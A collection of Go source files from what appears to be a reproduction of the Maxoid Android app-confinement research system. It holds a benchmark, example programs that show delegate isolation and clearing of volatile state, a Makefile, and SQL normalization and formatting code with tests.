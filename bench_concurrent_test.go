package maxoid_test

import (
	"sync/atomic"
	"testing"

	"maxoid/internal/bench"
)

// BenchmarkConcurrentInstances measures aggregate throughput of eight
// confined delegate instances doing mixed work — private file write +
// read, dictionary insert, copy-on-write update, and single-row query —
// against one shared disk and one shared provider database. Run with
// -cpu 1,2,4,8 to see how far the substrate locking lets independent
// instances scale; ns/op is per mixed unit of work across all
// instances, so aggregate ops/sec = 1e9/ns_per_op.
func BenchmarkConcurrentInstances(b *testing.B) {
	const instances = 8
	w, err := bench.NewMultiWorld(instances)
	if err != nil {
		b.Fatal(err)
	}
	var gid atomic.Int64
	b.ResetTimer()
	b.RunParallel(func(pb *testing.PB) {
		g := int(gid.Add(1) - 1)
		inst := w.Instance(g % instances)
		// Disjoint sequence space per goroutine keeps inserted words
		// unique without a shared counter.
		seq := g<<20 + 1
		for pb.Next() {
			if err := w.MixedOp(inst, seq); err != nil {
				b.Error(err)
				return
			}
			seq++
		}
	})
}
