// Quickstart: boot a simulated Maxoid device, install two small apps,
// and watch confinement work.
//
// App "vault" holds a secret file and invokes app "notepad" on it as a
// delegate. The notepad reads the secret, saves a copy to the SD card
// and adds a recent-file entry — and every one of those traces lands in
// the vault's volatile state or the notepad's per-delegate private
// branch instead of leaking.
//
// Run with: go run ./examples/quickstart
package main

import (
	"fmt"
	"log"
	"path"

	"maxoid/internal/ams"
	"maxoid/internal/core"
	"maxoid/internal/intent"
	"maxoid/internal/vfs"
)

// notepad is a tiny text viewer that behaves like the paper's Table 1
// apps: it copies what it opens onto the SD card and keeps history.
type notepad struct{}

func (notepad) Package() string { return "com.example.notepad" }

func (notepad) OnStart(ctx *ams.Context, in intent.Intent) error {
	if in.Data == "" {
		return nil
	}
	content, err := vfs.ReadFile(ctx.FS(), ctx.Cred(), in.Data)
	if err != nil {
		return err
	}
	// Trace 1: a copy on the (apparently) public SD card.
	sdCopy := ctx.ExtDir() + "/Notepad/" + path.Base(in.Data)
	if err := ctx.FS().MkdirAll(ctx.Cred(), path.Dir(sdCopy), 0o777); err != nil {
		return err
	}
	if err := vfs.WriteFile(ctx.FS(), ctx.Cred(), sdCopy, content, 0o666); err != nil {
		return err
	}
	// Trace 2: a history entry in private state.
	return vfs.AppendFile(ctx.FS(), ctx.Cred(), ctx.DataDir()+"/history.txt", []byte(in.Data+"\n"), 0o600)
}

// vault holds a secret and opens it with whatever handles VIEW intents.
type vault struct{}

func (vault) Package() string { return "com.example.vault" }

func (vault) OnStart(ctx *ams.Context, in intent.Intent) error { return nil }

func main() {
	// 1. Boot the device: disk, kernel, Binder, Zygote, Activity
	//    Manager, and the three system content providers.
	sys, err := core.Boot(core.Options{})
	if err != nil {
		log.Fatal(err)
	}

	// 2. Install the apps. The vault's Maxoid manifest marks all VIEW
	//    invocations private, so handlers run as its delegates.
	if err := sys.Install(vault{}, ams.Manifest{
		Package: "com.example.vault",
		Maxoid: ams.MaxoidManifest{
			Invoker: intent.InvokerPolicy{
				Whitelist: true,
				Filters:   []intent.Filter{{Actions: []string{intent.ActionView}}},
			},
		},
	}); err != nil {
		log.Fatal(err)
	}
	if err := sys.Install(notepad{}, ams.Manifest{
		Package: "com.example.notepad",
		Filters: []intent.Filter{{Actions: []string{intent.ActionView}}},
	}); err != nil {
		log.Fatal(err)
	}

	// 3. The vault stores a secret in its private internal storage.
	vctx, err := sys.Launch("com.example.vault", intent.Intent{})
	if err != nil {
		log.Fatal(err)
	}
	secretPath := vctx.DataDir() + "/secret.txt"
	if err := vfs.WriteFile(vctx.FS(), vctx.Cred(), secretPath, []byte("the launch codes"), 0o600); err != nil {
		log.Fatal(err)
	}

	// 4. The vault opens the secret with the notepad. Because of the
	//    manifest, the notepad becomes a delegate: vault^notepad.
	nctx, err := vctx.StartActivity(intent.Intent{Action: intent.ActionView, Data: secretPath})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("notepad ran as:        %s (delegate=%v)\n", nctx.Task(), nctx.IsDelegate())

	// 5. Where did the notepad's traces go?
	vols, err := sys.ListVolatileFiles("com.example.vault")
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("Vol(vault) now holds:  %v\n", vols)

	// The notepad run normally (a different instance with a different
	// view) sees no copy on the SD card and no history entry.
	osctx, err := sys.Launch("com.example.notepad", intent.Intent{})
	if err != nil {
		log.Fatal(err)
	}
	_, err = vfs.ReadFile(osctx.FS(), osctx.Cred(), osctx.ExtDir()+"/Notepad/secret.txt")
	fmt.Printf("public SD-card copy:   %v\n", err)

	// 6. The vault clears its volatile state: all traces gone.
	if err := sys.ClearVol("com.example.vault"); err != nil {
		log.Fatal(err)
	}
	if err := sys.ClearPriv("com.example.vault"); err != nil {
		log.Fatal(err)
	}
	vols, _ = sys.ListVolatileFiles("com.example.vault")
	fmt.Printf("after Clear-Vol:       %v\n", vols)
}
