// Incognito download (paper §7.1 "Enhancing Browser's incognito mode"):
// the browser's one-line patch routes incognito-tab downloads into its
// volatile state through the extended DownloadManager API; the viewer
// opened from the completion notification runs as a delegate; and the
// launcher's Clear-Vol / Clear-Priv drop targets erase every trace —
// including the viewer's recent-files list, which stock Android's
// incognito mode cannot reach.
//
// Run with: go run ./examples/incognito
package main

import (
	"fmt"
	"log"

	"maxoid/internal/apps"
	"maxoid/internal/core"
	"maxoid/internal/intent"
	"maxoid/internal/provider/downloads"
	"maxoid/internal/vfs"
)

func main() {
	sys, err := core.Boot(core.Options{})
	if err != nil {
		log.Fatal(err)
	}
	suite, err := apps.InstallSuite(sys)
	if err != nil {
		log.Fatal(err)
	}
	suite.WebServer.Put("/private/medical-results.pdf", []byte("%PDF private results"))

	bctx, err := sys.Launch(apps.BrowserPkg, intent.Intent{})
	if err != nil {
		log.Fatal(err)
	}

	// Incognito tab: Volatile=true is the browser's entire patch.
	id, clientPath, err := suite.Browser.Download(bctx, "web.example/private/medical-results.pdf", true)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("incognito download #%d complete at %s\n", id, clientPath)

	// Nothing public: no file, no Downloads record.
	octx, _ := sys.Launch(apps.EmailPkg, intent.Intent{})
	if vfs.Exists(octx.FS(), octx.Cred(), clientPath) {
		log.Fatal("file visible to other apps")
	}
	rows, err := octx.Resolver().Query(downloads.DownloadsURI, nil, "", "")
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("public download records visible to other apps: %d\n", len(rows.Data))

	// The browser itself can audit the volatile record via the tmp URI.
	mine, err := bctx.Resolver().Query(downloads.VolatileDownloadsURI, nil, "", "")
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("volatile download records in Vol(browser): %d\n", len(mine.Data))

	// The notification opens the PDF in a confined viewer.
	vctx, err := suite.Browser.OpenDownload(bctx, clientPath, true)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("viewer ran as %s — it read the volatile file transparently\n", vctx.Task())

	// The viewer has the file in its recent list (inside the domain).
	recents := suite.PDFViewer.RecentFiles(vctx)
	fmt.Printf("viewer recent files (confined): %v\n", recents)

	// Leaving incognito: wipe the domain.
	if err := sys.ClearVol(apps.BrowserPkg); err != nil {
		log.Fatal(err)
	}
	if err := sys.ClearPriv(apps.BrowserPkg); err != nil {
		log.Fatal(err)
	}
	vctx2, err := sys.LaunchAsDelegate(apps.PDFViewerPkg, apps.BrowserPkg, intent.Intent{})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("viewer recent files after Clear-Vol+Clear-Priv: %v\n", suite.PDFViewer.RecentFiles(vctx2))
	fmt.Println("no trace of the incognito session remains anywhere")
}
