// Launcher drop targets (paper §6.3): the user, not an app, decides to
// confine an invocation. Dragging Dropbox onto the "Initiator" target
// and tapping Camera starts Camera as Dropbox's delegate: the photo and
// its Media entry land in Vol(Dropbox), invisible everywhere else. The
// other two drop targets, Clear-Vol and Clear-Priv, wipe an initiator's
// volatile and per-delegate private state.
//
// Run with: go run ./examples/launcher
package main

import (
	"fmt"
	"log"

	"maxoid/internal/apps"
	"maxoid/internal/core"
	"maxoid/internal/intent"
	"maxoid/internal/layout"
	"maxoid/internal/vfs"
)

func main() {
	sys, err := core.Boot(core.Options{})
	if err != nil {
		log.Fatal(err)
	}
	suite, err := apps.InstallSuite(sys)
	if err != nil {
		log.Fatal(err)
	}

	// The user drags Dropbox onto "Initiator" and taps Camera.
	cctx, err := sys.LaunchAsDelegate(apps.CameraMXPkg, apps.DropboxPkg, intent.Intent{Action: intent.ActionMain})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("camera started as %s via the launcher\n", cctx.Task())

	photo, err := suite.CameraMX.TakePhoto(cctx, "receipt", []byte("jpeg-sensor-bits"))
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("photo saved (delegate view): %s\n", photo)

	// No other app can see the photo or its Media record.
	bctx, _ := sys.Launch(apps.BrowserPkg, intent.Intent{})
	if vfs.Exists(bctx.FS(), bctx.Cred(), photo) {
		log.Fatal("photo leaked to public storage")
	}
	rows, _ := bctx.Resolver().Query("content://media/images", nil, "", "")
	fmt.Printf("public Media images:         %d\n", len(rows.Data))

	// Dropbox sees it in Vol and could upload it.
	dctx, _ := sys.Launch(apps.DropboxPkg, intent.Intent{})
	volPhoto := layout.ExtTmpDir + "/DCIM/CameraMX/receipt.jpg"
	data, err := vfs.ReadFile(dctx.FS(), dctx.Cred(), volPhoto)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("Dropbox reads Vol photo:     %d bytes at %s\n", len(data), volPhoto)
	if n, _ := sys.VolatileRecords("media", "files", apps.DropboxPkg); n != 1 {
		log.Fatalf("expected 1 volatile media record, got %d", n)
	}
	fmt.Println("volatile Media record:       1 (in Vol(Dropbox))")

	// Clear-Vol drop target: the photo and record vanish.
	if err := sys.ClearVol(apps.DropboxPkg); err != nil {
		log.Fatal(err)
	}
	n, _ := sys.VolatileRecords("media", "files", apps.DropboxPkg)
	vols, _ := sys.ListVolatileFiles(apps.DropboxPkg)
	fmt.Printf("after Clear-Vol:             %d records, files %v\n", n, vols)

	// Clear-Priv drop target: any camera settings forked for this
	// domain are gone too.
	if err := sys.ClearPriv(apps.DropboxPkg); err != nil {
		log.Fatal(err)
	}
	fmt.Println("after Clear-Priv:            per-delegate private state wiped")
}
