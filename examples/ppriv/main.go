// Persistent private state (paper §3.2, §7.1 "Using delegates'
// persistent private state"): the EBookDroid port stores recent-file
// entries in pPriv when confined, so the list survives nPriv re-forks
// and stays isolated per initiator — a PDF viewer invoked by the email
// client remembers previous attachments, but only when invoked by the
// email client.
//
// Run with: go run ./examples/ppriv
package main

import (
	"fmt"
	"log"

	"maxoid/internal/apps"
	"maxoid/internal/core"
	"maxoid/internal/intent"
	"maxoid/internal/layout"
	"maxoid/internal/vfs"
)

func main() {
	sys, err := core.Boot(core.Options{})
	if err != nil {
		log.Fatal(err)
	}
	suite, err := apps.InstallSuite(sys)
	if err != nil {
		log.Fatal(err)
	}

	ectx, err := sys.Launch(apps.EmailPkg, intent.Intent{})
	if err != nil {
		log.Fatal(err)
	}

	// Day 1: two attachments viewed via Email.
	for _, name := range []string{"week1.epub", "week2.epub"} {
		if err := suite.Email.Receive(ectx, name, []byte("content of "+name)); err != nil {
			log.Fatal(err)
		}
		dctx, err := suite.Email.ViewAttachment(ectx, name, nil)
		if err != nil {
			log.Fatal(err)
		}
		if dctx.Package() != apps.EBookDroidPkg {
			log.Fatalf("resolved to %s", dctx.Package())
		}
		sys.AM.StopInstance(apps.EBookDroidPkg, apps.EmailPkg)
	}

	// Between invocations the user reads a public book normally, which
	// updates the viewer's real private state — forcing Maxoid to
	// discard and re-fork nPriv on the next delegate run (§3.2).
	nctx, err := sys.Launch(apps.EBookDroidPkg, intent.Intent{})
	if err != nil {
		log.Fatal(err)
	}
	if err := vfs.WriteFile(nctx.FS(), nctx.Cred(), layout.ExtDir+"/novel.epub", []byte("public novel"), 0o666); err != nil {
		log.Fatal(err)
	}
	if err := suite.EBookDroid.Open(nctx, layout.ExtDir+"/novel.epub"); err != nil {
		log.Fatal(err)
	}
	fmt.Printf("normal run recent list:    %v\n", suite.EBookDroid.RecentFiles(nctx))
	sys.AM.StopInstance(apps.EBookDroidPkg, "")

	// Day 2: another attachment. nPriv was re-forked, but pPriv kept
	// the previous attachments (the paper's merged list).
	if err := suite.Email.Receive(ectx, "week3.epub", []byte("content of week3")); err != nil {
		log.Fatal(err)
	}
	dctx, err := suite.Email.ViewAttachment(ectx, "week3.epub", nil)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("delegate-of-email recents: %v\n", suite.EBookDroid.RecentFiles(dctx))

	// A different initiator's delegate has its own, empty pPriv.
	wctx, err := sys.Launch(apps.WrapperPkg, intent.Intent{})
	if err != nil {
		log.Fatal(err)
	}
	if err := suite.Wrapper.Hold(wctx, "other.epub", []byte("wrapper book")); err != nil {
		log.Fatal(err)
	}
	octx, err := suite.Wrapper.OpenWith(wctx, "other.epub", nil)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("delegate-of-wrapper recents: %v\n", suite.EBookDroid.RecentFiles(octx))
	fmt.Println("pPriv survives re-forks and is isolated per initiator")
}
