// Dropbox scenario (paper §7.1 "Securing Dropbox"): the full edit
// round-trip for a cloud storage app whose files live on external
// storage.
//
// Stock Android gives Dropbox neither privacy (any app can read its
// directory) nor integrity (auto-sync uploads whatever any app wrote
// there). Under Maxoid, a two-line Maxoid manifest — declare the
// directory private, mark VIEW intents delegate — fixes both without
// touching Dropbox's code. This example walks the whole flow: fetch,
// delegate edit, audit Vol, selective commit, Clear-Vol.
//
// Run with: go run ./examples/dropbox
package main

import (
	"fmt"
	"log"

	"maxoid/internal/apps"
	"maxoid/internal/core"
	"maxoid/internal/intent"
	"maxoid/internal/layout"
	"maxoid/internal/vfs"
)

func main() {
	sys, err := core.Boot(core.Options{})
	if err != nil {
		log.Fatal(err)
	}
	suite, err := apps.InstallSuite(sys)
	if err != nil {
		log.Fatal(err)
	}

	// The cloud has one document.
	suite.DropboxServer.Put("/files/report.txt", []byte("quarterly numbers v1"))

	dctx, err := sys.Launch(apps.DropboxPkg, intent.Intent{})
	if err != nil {
		log.Fatal(err)
	}
	if err := suite.Dropbox.Fetch(dctx, "report.txt"); err != nil {
		log.Fatal(err)
	}
	fmt.Println("fetched report.txt into the private Dropbox directory")

	// Privacy: another app cannot even see the directory contents.
	bctx, _ := sys.Launch(apps.BrowserPkg, intent.Intent{})
	if _, err := bctx.FS().ReadDir(bctx.Cred(), layout.ExtDir+"/Dropbox"); err == nil {
		entries, _ := bctx.FS().ReadDir(bctx.Cred(), layout.ExtDir+"/Dropbox")
		if len(entries) > 0 {
			log.Fatalf("privacy violated: browser sees %v", entries)
		}
	}
	fmt.Println("privacy: the browser sees an empty Dropbox directory")

	// The user clicks the file; the office editor runs as a delegate
	// and appends a line.
	ectx, err := suite.Dropbox.OpenFile(dctx, "report.txt", map[string]string{"append": "\n+ appended by editor"})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("editor ran as %s\n", ectx.Task())

	// Integrity: the local original and the server are untouched.
	local, _ := vfs.ReadFile(dctx.FS(), dctx.Cred(), layout.ExtDir+"/Dropbox/report.txt")
	remote, _ := suite.DropboxServer.Get("/files/report.txt")
	fmt.Printf("original after edit:   %q\n", local)
	fmt.Printf("server after edit:     %q\n", remote)
	if uploaded, err := suite.Dropbox.SyncAll(dctx); err != nil || len(uploaded) != 0 {
		log.Fatalf("auto-sync uploaded %v (err %v) — integrity violated", uploaded, err)
	}
	fmt.Println("auto-sync: nothing to upload (delegate edits are volatile)")

	// Dropbox audits Vol and the user commits the intended change only.
	vols, err := sys.ListVolatileFiles(apps.DropboxPkg)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("Vol(Dropbox) contains: %v\n", vols)
	if err := suite.Dropbox.CommitFromVol(dctx, "report.txt"); err != nil {
		log.Fatal(err)
	}
	remote, _ = suite.DropboxServer.Get("/files/report.txt")
	fmt.Printf("server after commit:   %q\n", remote)

	// Discard the editor's side effects (thumbnails, SD-card DB, ...).
	if err := sys.ClearVol(apps.DropboxPkg); err != nil {
		log.Fatal(err)
	}
	vols, _ = sys.ListVolatileFiles(apps.DropboxPkg)
	fmt.Printf("Vol(Dropbox) cleared:  %v\n", vols)
}
