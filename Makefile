# Maxoid reproduction — common tasks.

GO ?= go

.PHONY: all build test race vet staticcheck check fuzz chaos bench bench-index bench-load bench-durability bench-gateway advisor tables audit demo examples clean

all: build test

build:
	$(GO) build ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

vet:
	$(GO) vet ./...

# Static analysis beyond vet. The tool is not vendored: run it when
# installed (CI installs it), skip with a notice otherwise so local
# `make check` works offline.
staticcheck:
	@if command -v staticcheck >/dev/null 2>&1; then \
		staticcheck ./...; \
	else \
		echo "staticcheck not installed; skipping (CI runs it)"; \
	fi

# The full gate: what CI runs on every push.
check: build vet staticcheck test race fuzz

# Short coverage-guided fuzzing smoke over the SQL front end. Each
# target needs its own invocation: go test allows one -fuzz pattern
# per run.
fuzz:
	$(GO) test -run '^$$' -fuzz FuzzTokenize -fuzztime 10s ./internal/sqldb
	$(GO) test -run '^$$' -fuzz FuzzParse -fuzztime 10s ./internal/sqldb
	$(GO) test -run '^$$' -fuzz FuzzNormalize -fuzztime 10s ./internal/sqldb
	$(GO) test -run '^$$' -fuzz FuzzFormat -fuzztime 10s ./internal/sqldb
	$(GO) test -run '^$$' -fuzz FuzzWALDecode -fuzztime 10s ./internal/wal
	$(GO) test -run '^$$' -fuzz FuzzSnapshotDecode -fuzztime 10s ./internal/wal
	$(GO) test -run '^$$' -fuzz FuzzGatewayPath -fuzztime 10s ./internal/gateway

# Deterministic fault-injection run: every engine, race detector on.
# Same seed => same fault schedule, same verdict. The extra kill-engine
# seeds push the total well past 500 process kills per invocation, all
# of which must drain leak-free with typed errors only.
chaos:
	$(GO) run -race ./cmd/maxoid-chaos -engine all -seed 42
	$(GO) run -race ./cmd/maxoid-chaos -engine overload -seed 7 -ops 4000
	$(GO) run -race ./cmd/maxoid-chaos -engine kill -seed 1 -ops 2000
	$(GO) run -race ./cmd/maxoid-chaos -engine kill -seed 2 -ops 2000
	$(GO) run -race ./cmd/maxoid-chaos -engine kill -seed 7 -ops 2000
	$(GO) run -race ./cmd/maxoid-chaos -engine recover -seed 7 -ops 3000
	$(GO) run -race ./cmd/maxoid-chaos -engine recover -seed 1337 -ops 3000
	$(GO) run -race ./cmd/maxoid-chaos -engine degrade -seed 7
	$(GO) run -race ./cmd/maxoid-chaos -engine degrade -seed 1337
	$(GO) run -race ./cmd/maxoid-chaos -engine gateway -seed 7
	$(GO) run -race ./cmd/maxoid-chaos -engine gateway -seed 1337

# The paper's evaluation as Go benchmarks (Tables 3-5 + ablations).
bench:
	$(GO) test -bench . -benchmem ./...

# Secondary-index benchmark artifact: probe-only microbenchmarks from
# the sqldb package folded into the end-to-end million-row report.
bench-index:
	$(GO) test -run '^$$' -bench 'Probe1M|Range1M|Indexed1M' -benchtime 100000x ./internal/sqldb | tee probe-micro.txt
	$(GO) run ./cmd/maxoid-indexbench -rows 1000000 -micro probe-micro.txt -out BENCH_PR6.json

# Fleet-scale load benchmark: batched vs unbatched binder throughput at
# 10k simulated instances plus a bounded overload run under admission
# control. Gated against the committed baseline: exits nonzero when
# aggregate throughput regresses more than 10%, and refreshes
# BENCH_PR7.json in place for the CI artifact.
bench-load:
	$(GO) run ./cmd/maxoid-loadbench -instances 10000 -baseline BENCH_PR7.json -out BENCH_PR7.json

# Durability cost benchmark: the same concurrent insert workload
# against a volatile database, a WAL with group commit, and a WAL
# forced to one fsync per statement. Refreshes the BENCH_PR8.json
# artifact.
bench-durability:
	$(GO) run ./cmd/maxoid-loadbench -durability BENCH_PR8.json -workers 32

# Remote-gateway fleet benchmark: req/sec for a single device vs a
# 1000-device fleet syncing through one shared backend, plus the
# admission-control overload run (100% typed 429/503, in-flight
# drains to 0). Refreshes the BENCH_PR10.json artifact.
bench-gateway:
	$(GO) run ./cmd/maxoid-gateway -bench -devices 1000 -out BENCH_PR10.json

# Workload-driven index advisor on the Media/Downloads providers.
advisor:
	$(GO) run ./cmd/maxoid-advisor -apply

# The paper's evaluation printed in the paper's table format.
tables:
	$(GO) run ./cmd/maxoid-bench

# Table 1: state left behind, stock vs confined.
audit:
	$(GO) run ./cmd/maxoid-audit

# Table 2 mounts, Figure 6 SQL dump, §7.1 use cases.
demo:
	$(GO) run ./cmd/maxoid-demo

examples:
	$(GO) run ./examples/quickstart
	$(GO) run ./examples/dropbox
	$(GO) run ./examples/incognito
	$(GO) run ./examples/ppriv
	$(GO) run ./examples/launcher

clean:
	$(GO) clean ./...
