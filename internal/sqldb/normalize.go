package sqldb

import (
	"strconv"
	"strings"
)

// Statement normalization: the token-level half of the prepared-
// statement layer. Literals in a statement are replaced by ?
// parameters and extracted as bind values, so "WHERE v = 1" and
// "WHERE v = 2" share one canonical text, one AST, and therefore one
// entry in every pointer-keyed memo downstream (plan cache, lock
// plans, select-list expansions). This is the moral equivalent of
// what SQLite callers get by writing ? themselves — content providers
// that interpolate literals (common in real apps) now reuse plans
// instead of defeating every cache.
//
// Normalization refuses (returns ok=false, caller parses the raw
// tokens) rather than risk changing semantics:
//
//   - The statement already contains user ? parameters. Mixing
//     extracted literals with user-bound values would renumber the
//     user's placeholders; argument-count errors must also keep
//     referring to the SQL the caller wrote.
//   - A number literal does not parse the way the parser would parse
//     it (overflow); the raw parse owns the error message.
//
// Literals are kept inline (position skipped, statement still
// normalized) when parameterizing would change meaning:
//
//   - Inside ORDER BY and GROUP BY clauses, where a bare integer is a
//     1-based output-column ordinal, not a value ("ORDER BY 2" sorts
//     by the second column; "ORDER BY ?" would sort by a constant).
//   - Anywhere in a CREATE or DROP statement: column DEFAULTs must
//     stay in the catalog, and trigger bodies execute long after the
//     binding args are gone.
type normalized struct {
	text string  // canonical statement text, the cache/display key
	toks []token // the token stream with literals replaced by ?
	lits []Value // extracted literal values, in placeholder order
}

// normalizeTokens rewrites a lexed statement batch into normalized
// form. ok=false means the batch must be parsed from the raw tokens.
func normalizeTokens(src []token) (*normalized, bool) {
	for _, t := range src {
		if t.kind == tokParam {
			return nil, false
		}
	}
	toks := make([]token, len(src))
	copy(toks, src)

	var lits []Value
	depth := 0        // paren nesting
	atStart := true   // at the start of a statement
	skipStmt := false // inside a CREATE/DROP statement: literals stay inline
	beginDepth := 0   // BEGIN..END nesting of a trigger body being skipped
	caseDepth := 0    // CASE..END nesting (so its END doesn't close BEGIN)
	inOrdinal := false
	ordinalDepth := 0 // depth at which the ORDER BY/GROUP BY clause began

	for i := range toks {
		t := &toks[i]
		if t.kind == tokEOF {
			break
		}
		nextStart := false
		switch t.kind {
		case tokOp:
			switch t.text {
			case "(":
				depth++
			case ")":
				depth--
				if inOrdinal && depth < ordinalDepth {
					inOrdinal = false
				}
			case ";":
				if depth == 0 && beginDepth == 0 {
					skipStmt = false
					inOrdinal = false
					caseDepth = 0
					nextStart = true
				}
			}
		case tokKeyword:
			switch t.text {
			case "CREATE", "DROP":
				if atStart {
					skipStmt = true
				}
			case "BEGIN":
				if skipStmt {
					beginDepth++
				}
			case "CASE":
				caseDepth++
			case "END":
				if caseDepth > 0 {
					caseDepth--
				} else if beginDepth > 0 {
					beginDepth--
				}
			case "ORDER", "GROUP":
				if i+1 < len(toks) && toks[i+1].kind == tokKeyword && toks[i+1].text == "BY" {
					inOrdinal = true
					ordinalDepth = depth
				}
			case "HAVING", "LIMIT", "OFFSET", "UNION", "SELECT", "FROM", "WHERE":
				if inOrdinal && depth == ordinalDepth {
					inOrdinal = false
				}
			case "EXPLAIN":
				// EXPLAIN prefixes a statement; CREATE/DROP detection
				// still applies to what follows.
				nextStart = atStart
			}
		case tokNumber:
			if !skipStmt && !inOrdinal {
				v, ok := numberValue(t.text)
				if !ok {
					return nil, false
				}
				lits = append(lits, v)
				*t = token{kind: tokParam, text: "?", pos: t.pos}
			}
		case tokString:
			if !skipStmt && !inOrdinal {
				lits = append(lits, t.text)
				*t = token{kind: tokParam, text: "?", pos: t.pos}
			}
		}
		atStart = nextStart
	}

	text, ok := renderTokens(toks)
	if !ok {
		return nil, false
	}
	return &normalized{text: text, toks: toks, lits: lits}, true
}

// numberValue converts a number token exactly the way the parser does
// (see parsePrimary): int64 unless a decimal point is present.
func numberValue(text string) (Value, bool) {
	if strings.Contains(text, ".") {
		f, err := strconv.ParseFloat(text, 64)
		if err != nil {
			return nil, false
		}
		return f, true
	}
	n, err := strconv.ParseInt(text, 10, 64)
	if err != nil {
		return nil, false
	}
	return n, true
}

// renderTokens produces the canonical statement text: tokens joined by
// single spaces, keywords already upper-folded by the lexer, strings
// re-quoted, identifiers quoted only when a bare spelling would
// re-lex differently.
func renderTokens(toks []token) (string, bool) {
	var b strings.Builder
	first := true
	for _, t := range toks {
		if t.kind == tokEOF {
			break
		}
		if !first {
			b.WriteByte(' ')
		}
		first = false
		switch t.kind {
		case tokString:
			b.WriteByte('\'')
			b.WriteString(strings.ReplaceAll(t.text, "'", "''"))
			b.WriteByte('\'')
		case tokIdent:
			if identNeedsQuote(t.text) {
				if strings.Contains(t.text, `"`) {
					// No escape for a double quote inside a quoted
					// identifier; leave this statement un-normalized.
					return "", false
				}
				b.WriteByte('"')
				b.WriteString(t.text)
				b.WriteByte('"')
			} else {
				b.WriteString(t.text)
			}
		default:
			b.WriteString(t.text)
		}
	}
	return b.String(), true
}

// identNeedsQuote reports whether an identifier must be quoted to
// survive a round trip through the lexer.
func identNeedsQuote(s string) bool {
	if s == "" || !isIdentStart(s[0]) {
		return true
	}
	for i := 1; i < len(s); i++ {
		if !isIdentCont(s[i]) {
			return true
		}
	}
	return keywords[upperASCII(s)]
}
