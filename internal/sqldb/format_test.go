package sqldb

import (
	"strings"
	"testing"
)

// TestFormatRoundTrip checks that formatting a parsed SELECT yields SQL
// that parses and executes to the same result.
func TestFormatRoundTrip(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE t (_id INTEGER PRIMARY KEY, v INTEGER, w TEXT)")
	mustExec(t, db, "INSERT INTO t (v, w) VALUES (1, 'a'), (2, 'b'), (3, 'c')")

	queries := []string{
		"SELECT v, w FROM t WHERE v > 1 ORDER BY v DESC LIMIT 2",
		"SELECT * FROM t WHERE w LIKE 'b%'",
		"SELECT v FROM t WHERE v IN (1, 3)",
		"SELECT v FROM t WHERE v IN (SELECT v FROM t WHERE v > 1)",
		"SELECT v FROM t WHERE v BETWEEN 1 AND 2",
		"SELECT COUNT(*) FROM t",
		"SELECT CASE WHEN v > 2 THEN 'hi' ELSE 'lo' END FROM t ORDER BY v",
		"SELECT v FROM t WHERE w IS NOT NULL",
		"SELECT v + 1 AS vv FROM t ORDER BY vv",
		"SELECT v, w FROM t UNION ALL SELECT v, w FROM t ORDER BY v",
	}
	for _, q := range queries {
		stmts, err := parseAll(q)
		if err != nil {
			t.Fatalf("parse %q: %v", q, err)
		}
		formatted := FormatSelect(stmts[0].(*SelectStmt))
		want, err := db.Query(q)
		if err != nil {
			t.Fatalf("orig %q: %v", q, err)
		}
		got, err := db.Query(formatted)
		if err != nil {
			t.Fatalf("formatted %q (from %q): %v", formatted, q, err)
		}
		if len(got.Data) != len(want.Data) {
			t.Errorf("%q: formatted result %d rows, want %d", q, len(got.Data), len(want.Data))
			continue
		}
		for i := range want.Data {
			for j := range want.Data[i] {
				if got.Data[i][j] != want.Data[i][j] {
					t.Errorf("%q row %d col %d: %v != %v", q, i, j, got.Data[i][j], want.Data[i][j])
				}
			}
		}
	}
}

func TestRewriteTables(t *testing.T) {
	sql := "SELECT a.x, b.y FROM files AS a JOIN artists AS b ON a.k = b.k WHERE a.x IN (SELECT x FROM files)"
	out, err := RewriteTables(sql, func(name string) string {
		return name + "_view_A"
	})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "files_view_A") || !strings.Contains(out, "artists_view_A") {
		t.Errorf("rewrite missing renames: %s", out)
	}
	if strings.Contains(out, "FROM files ") || strings.Contains(out, "FROM files)") {
		t.Errorf("unrenamed reference remains: %s", out)
	}
}

func TestSelectTables(t *testing.T) {
	names, err := SelectTables("SELECT * FROM audio_meta LEFT OUTER JOIN artists ON a = b LEFT OUTER JOIN albums ON c = d")
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"audio_meta", "artists", "albums"}
	if len(names) != len(want) {
		t.Fatalf("names = %v", names)
	}
	for i := range want {
		if names[i] != want[i] {
			t.Errorf("names = %v, want %v", names, want)
		}
	}
}

func TestRewritePreservesSemantics(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE orig (_id INTEGER PRIMARY KEY, v INTEGER)")
	mustExec(t, db, "CREATE TABLE renamed (_id INTEGER PRIMARY KEY, v INTEGER)")
	mustExec(t, db, "INSERT INTO renamed (v) VALUES (10), (20)")
	out, err := RewriteTables("SELECT v FROM orig WHERE v > 5 ORDER BY v", func(string) string { return "renamed" })
	if err != nil {
		t.Fatal(err)
	}
	rows, err := db.Query(out)
	if err != nil {
		t.Fatalf("rewritten query %q: %v", out, err)
	}
	if len(rows.Data) != 2 || rows.Data[0][0] != int64(10) {
		t.Errorf("rewritten rows: %v", rows.Data)
	}
}
