package sqldb

import (
	"math/rand"
	"strings"
	"testing"
)

// TestParserNeverPanics feeds mutated fragments of valid SQL to the
// parser; it must return an error or a statement, never panic.
func TestParserNeverPanics(t *testing.T) {
	seeds := []string{
		"SELECT a, b FROM t WHERE x = ? ORDER BY a DESC LIMIT 5",
		"CREATE TABLE t (a INTEGER PRIMARY KEY, b TEXT NOT NULL DEFAULT 'x')",
		"CREATE VIEW v AS SELECT * FROM t UNION ALL SELECT * FROM u",
